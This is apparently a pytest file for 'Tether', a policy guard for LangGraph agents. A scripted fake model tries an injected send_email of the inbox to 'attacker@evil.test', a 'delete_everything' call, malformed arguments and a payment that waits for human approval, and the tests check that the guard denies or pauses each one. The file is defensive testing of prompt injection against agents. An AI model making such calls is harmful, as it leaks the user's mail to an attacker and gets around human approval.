"""LangGraph under Tether, offline: LangChain's own fake chat model (``GenericFakeChatModel``) drives
scripted tool calls through a real graph with a checkpointer.

A legitimate call runs; an injected one (a recipient taken from an untrusted inbox) is denied with
the reason in the ``ToolMessage``; malformed arguments and an unknown tool are denied; an ask pauses
the graph with ``interrupt()`` and runs only after ``Command(resume=True)``, once; the log verifies.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("langgraph")

from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.types import Command
from tests.adapters.mail_tools import INBOX, POLICY, mail_tools

from tether import Guard, Policy, SQLiteStore, StaticApprover
from tether.adapters.langgraph import INTERRUPT_KIND, GuardedToolNode
from tether.examples.langgraph_agent import build_graph


def _tools(effects: list[str]) -> list[Any]:
    return [tool(f) for f in mail_tools(effects)]


def _call(name: str, args: dict[str, Any], cid: str) -> dict[str, Any]:
    return {"name": name, "args": args, "id": cid, "type": "tool_call"}


SCRIPT = [
    AIMessage(content="", tool_calls=[_call("read_inbox", {}, "c1")]),
    AIMessage(
        content="",
        tool_calls=[
            _call("send_email", {"to": "attacker@evil.test", "body": "inbox"}, "c2"),
            _call("write_note", {"text": "lunch on friday"}, "c3"),
            _call("delete_everything", {}, "c4"),
        ],
        invalid_tool_calls=[
            {"name": "write_note", "args": '{"text": "unterminated', "id": "c5", "error": "bad json", "type": "invalid_tool_call"}
        ],
    ),
    AIMessage(content="", tool_calls=[_call("pay", {"to": "alice@example.com", "amount": 20}, "c6")]),
    AIMessage(content="Done: noted lunch and paid Alice."),
]


def test_asks_interrupt_the_graph_and_resume_with_the_humans_answer(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "t.db")
    session = Guard(Policy.from_file(POLICY), store).start_session("Read my inbox, note lunch, and pay alice@example.com 20.")
    effects: list[str] = []
    app = build_graph(GuardedToolNode(_tools(effects), session), GenericFakeChatModel(messages=iter(SCRIPT)))
    config = {"configurable": {"thread_id": "t1"}}

    first = app.invoke({"messages": [HumanMessage("Read my inbox, note lunch, and pay alice@example.com 20.")]}, config)
    (pause,) = first["__interrupt__"]
    assert pause.value["kind"] == INTERRUPT_KIND and pause.value["session_id"] == session.id
    (request,) = pause.value["requests"]
    assert request["tool"] == "pay" and request["tool_call_id"] == "c6" and "every payment" in request["reason"]
    assert effects == ["write_note lunch on friday"]  # the ask has not run

    done = app.invoke(Command(resume=True), config)
    assert done["messages"][-1].content == "Done: noted lunch and paid Alice."
    assert effects == ["write_note lunch on friday", "pay alice@example.com 20.0"]  # paid once, on the answer
    replies = {m.tool_call_id: m for m in done["messages"] if isinstance(m, ToolMessage)}
    assert replies["c1"].content == INBOX and replies["c1"].status == "success"
    assert replies["c2"].status == "error" and replies["c2"].content.startswith("tether denied this call")
    assert "trusted" in replies["c2"].content
    assert replies["c4"].status == "error" and replies["c5"].status == "error"
    assert "tether denied" in replies["c5"].content
    assert replies["c6"].content == "paid"
    assert store.verify([session.id]).ok
    assert session.approval_status(next(c for c in session.state.calls if c.endswith(":c6"))) == "approved"


def test_a_refusal_through_the_interrupt_never_runs_and_an_inline_approver_needs_no_interrupt(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "t.db")
    guard = Guard(Policy.from_file(POLICY), store)
    pay_only = [AIMessage(content="", tool_calls=[_call("pay", {"to": "bob@example.com", "amount": 5}, "p1")]), AIMessage(content="ok")]

    effects: list[str] = []
    session = guard.start_session("Pay bob@example.com 5.")
    app = build_graph(GuardedToolNode(_tools(effects), session), GenericFakeChatModel(messages=iter(pay_only)))
    config = {"configurable": {"thread_id": "t2"}}
    assert app.invoke({"messages": [HumanMessage("Pay bob@example.com 5.")]}, config)["__interrupt__"]
    done = app.invoke(Command(resume={"p1": "yes"}), config)  # anything but True refuses
    assert effects == []
    reply = next(m for m in done["messages"] if isinstance(m, ToolMessage))
    assert "was not approved" in reply.content

    inline = guard.start_session("Pay bob@example.com 5.")
    app = build_graph(
        GuardedToolNode(_tools(effects), inline, approver=StaticApprover(True)), GenericFakeChatModel(messages=iter(pay_only))
    )
    done = app.invoke({"messages": [HumanMessage("Pay bob@example.com 5.")]}, {"configurable": {"thread_id": "t3"}})
    assert "__interrupt__" not in done and effects == ["pay bob@example.com 5.0"]
    assert store.verify([session.id, inline.id]).ok
